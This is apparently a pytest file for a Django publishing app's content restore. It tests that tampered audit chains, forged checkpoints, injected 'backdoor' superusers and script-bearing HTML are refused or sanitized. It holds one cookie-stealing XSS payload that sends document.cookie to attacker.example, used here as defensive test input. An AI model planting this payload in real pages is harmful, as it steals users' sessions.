"""A restore proves the file before writing anything, and grants nobody more than the
content needs (``import_content``; see transfer/restore.py for the rules).

The export is made in this test database inside a transaction that is rolled
back, so the database is empty again (migrated, with its roles) when the file is
imported, as an operator's fresh target would be.
"""

from __future__ import annotations

import json
from io import StringIO

import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group
from django.core.management import CommandError, call_command
from django.db import transaction

from articles.models import Article
from reviews import integrity
from reviews import services as review
from reviews.audit import verify_chain
from reviews.models import AuditEvent, ReviewDecision, Revision
from tests.factories import ArticleFactory, UserFactory, make_board_member, make_editor
from transfer import export, restore
from transfer.document import DEVICES_STATEMENT, TransferRefused

pytestmark = pytest.mark.django_db

SCRIPT = '<p>Normal text.</p><script>fetch("https://attacker.example/?c="+document.cookie)</script>'


@pytest.fixture
def exported() -> dict:
    """A board-approved article, its people (the approving ``admin`` is a superuser and an
    administrator who also sits on the board), exported and then rolled back."""
    with transaction.atomic():
        alice = make_editor("alice_editor", first_name="Alice", last_name="Editor")
        make_board_member("bob_reviewer", first_name="Bob", last_name="Reviewer")
        admin = make_board_member("admin", first_name="Ada", last_name="Admin")
        admin.is_superuser = True
        admin.save()
        admin.groups.add(Group.objects.get(name="Administrators"))
        UserFactory(username="mallory", is_staff=True, is_superuser=True)  # named by nothing
        article = ArticleFactory(by=alice)
        revision = review.submit(article, by=alice)
        review.start_review(revision, by=admin)
        review.approve(revision, by=admin, comment="Checked.")
        out = StringIO()
        export.export_content(out)
        transaction.set_rollback(True)
    return json.loads(out.getvalue())


def rows(document: dict, label: str) -> list[dict]:
    return next(entry["rows"] for entry in document["models"] if entry["model"] == label)


def as_file(document: dict) -> StringIO:
    return StringIO(json.dumps(document))


def assert_nothing_written() -> None:
    for model in (get_user_model(), Article, Revision, ReviewDecision, AuditEvent):
        assert model._base_manager.count() == 0, model


def assert_refused(document: dict, expected: str) -> None:
    with pytest.raises(TransferRefused) as refusal:
        restore.import_content(as_file(document))
    assert expected in str(refusal.value)
    assert_nothing_written()


def rehash_with_the_real_key(document: dict, key: bytes) -> None:
    """What only someone holding AUDIT_HMAC_KEY could do: re-hash the file's whole chain."""
    previous = integrity.GENESIS
    for event in sorted(rows(document, "reviews.AuditEvent"), key=lambda e: e["sequence"]):
        event["previous_hash"] = previous
        event["entry_hash"] = previous = integrity.event_hash(event, key)
    document["audit_chain_head"]["last_hash"] = previous


def test_a_verified_file_is_restored_with_no_more_access_than_the_content_needs(exported):
    report = restore.import_content(as_file(exported))
    assert report.audit_chain_ok and verify_chain().ok

    User = get_user_model()
    people = {user.username: user for user in User.objects.all()}
    # Every person the content names, the approving admin included; nobody else.
    assert set(people) == {"alice_editor", "bob_reviewer", "admin"}
    assert not any(user.is_superuser for user in people.values())
    assert people["admin"].is_staff, "the admin acted in the workflow (an approval)"
    assert list(people["admin"].groups.values_list("name", flat=True)) == ["Board"]
    assert list(people["alice_editor"].groups.values_list("name", flat=True)) == ["Editors"]
    assert any("Superuser status of admin" in line for line in report.not_carried)
    assert any("Membership of Administrators" in line for line in report.not_carried)
    assert DEVICES_STATEMENT in report.not_carried


def test_the_command_says_what_was_not_carried(exported, tmp_path):
    path = tmp_path / "export.json"
    path.write_text(json.dumps(exported))
    out = StringIO()
    call_command("import_content", str(path), stdout=out)
    said = out.getvalue()
    assert "The audit chain verifies." in said
    assert "nobody becomes a superuser from a file" in said
    assert (
        "Authenticator devices are not carried: every staff member registers an app again "
        "at their next log-in." in said
    )


def test_a_file_marked_unverified_is_refused(exported):
    exported["audit_chain_verified"] = False
    assert_refused(exported, "The file says its audit chain did not verify when it was exported")


def test_the_command_refuses_with_the_sentence(exported, tmp_path):
    exported["audit_chain_verified"] = False
    path = tmp_path / "export.json"
    path.write_text(json.dumps(exported))
    with pytest.raises(CommandError, match="did not verify when it was exported"):
        call_command("import_content", str(path))
    assert_nothing_written()


def test_a_file_with_an_edited_event_is_refused(exported):
    approval = next(e for e in rows(exported, "reviews.AuditEvent") if e["kind"] == "approve")
    approval["summary"] = "Approved by the whole board"
    assert_refused(exported, f"Audit event #{approval['sequence']} (approve")


def test_a_file_with_an_edited_snapshot_is_refused(exported):
    revision = rows(exported, "reviews.Revision")[0]
    revision["snapshot"]["title"] = "Stop all antibiotics now"
    assert_refused(exported, f"Revision #{revision['id']}'s snapshot does not match")


def test_a_file_with_a_snapshot_and_hash_both_replaced_is_refused(exported):
    revision = rows(exported, "reviews.Revision")[0]
    revision["snapshot"]["title"] = "Stop all antibiotics now"
    revision["content_hash"] = integrity.content_hash(revision["snapshot"])
    assert_refused(exported, f"Revision #{revision['id']}'s content hash is not the one")


def test_a_file_with_edited_credentials_is_refused(exported):
    decision = rows(exported, "reviews.ReviewDecision")[0]
    decision["reviewer_credentials"] = "MD, PhD, Chief of Medicine"
    assert_refused(exported, f"Decision #{decision['id']} (approve")


def test_a_file_from_an_installation_with_another_key_is_refused(exported, settings):
    settings.AUDIT_HMAC_KEY = "another installation's key"
    assert_refused(exported, "does not verify with this installation's keys")


def test_a_file_with_a_forged_checkpoint_is_refused(exported):
    checkpoint = rows(exported, "reviews.AuditCheckpoint")[-1]
    checkpoint["signature"] = checkpoint["signature"][::-1]
    assert_refused(exported, "does not carry a valid signature")


def test_a_snapshot_carrying_a_script_is_refused_even_with_every_hash_right(exported, settings):
    """A snapshot is what the board approved and is never rewritten, so a script in one
    (put there by someone holding the key, or by a sanitizer gap long ago) refuses the file."""
    revision = rows(exported, "reviews.Revision")[0]
    revision["snapshot"]["wordings"]["default"]["body_html"] = SCRIPT
    revision["content_hash"] = integrity.content_hash(revision["snapshot"])
    decision = rows(exported, "reviews.ReviewDecision")[0]
    decision["content_hash"] = revision["content_hash"]
    for event in rows(exported, "reviews.AuditEvent"):
        if event["revision_id"] == revision["id"] and "content_hash" in event["data"]:
            event["data"]["content_hash"] = revision["content_hash"]
        if event["decision_id"] == decision["id"]:
            event["data"]["decision_digest"] = integrity.decision_digest(decision)
    rehash_with_the_real_key(exported, settings.AUDIT_HMAC_KEY.encode())
    rows(exported, "reviews.AuditCheckpoint").clear()  # signed for the old hashes
    assert_refused(exported, f"reviews.Revision #{revision['id']} holds HTML the sanitizer")


def test_stored_html_outside_snapshots_is_sanitized_again(exported):
    article = rows(exported, "articles.Article")[0]
    article["body_html"] = SCRIPT
    report = restore.import_content(as_file(exported))
    assert report.html_cleaned == 1
    stored = Article.objects.get(pk=article["id"]).body_html
    assert "<script" not in stored and "Normal text." in stored


def test_a_user_the_content_does_not_name_is_refused(exported):
    exported["users"].append(
        {
            **exported["users"][0],
            "id": 999,
            "username": "backdoor",
            "is_superuser": True,
            "is_staff": True,
        }
    )
    assert_refused(exported, "The file carries user #999 (backdoor), whom none of its content")


def test_a_superuser_flag_in_the_file_grants_nothing(exported):
    for user in exported["users"]:
        user["is_superuser"] = True
        user["groups"] = ["Administrators", "Editors"]
    restore.import_content(as_file(exported))
    User = get_user_model()
    assert not User.objects.filter(is_superuser=True).exists()
    assert not User.objects.filter(groups__name="Administrators").exists()
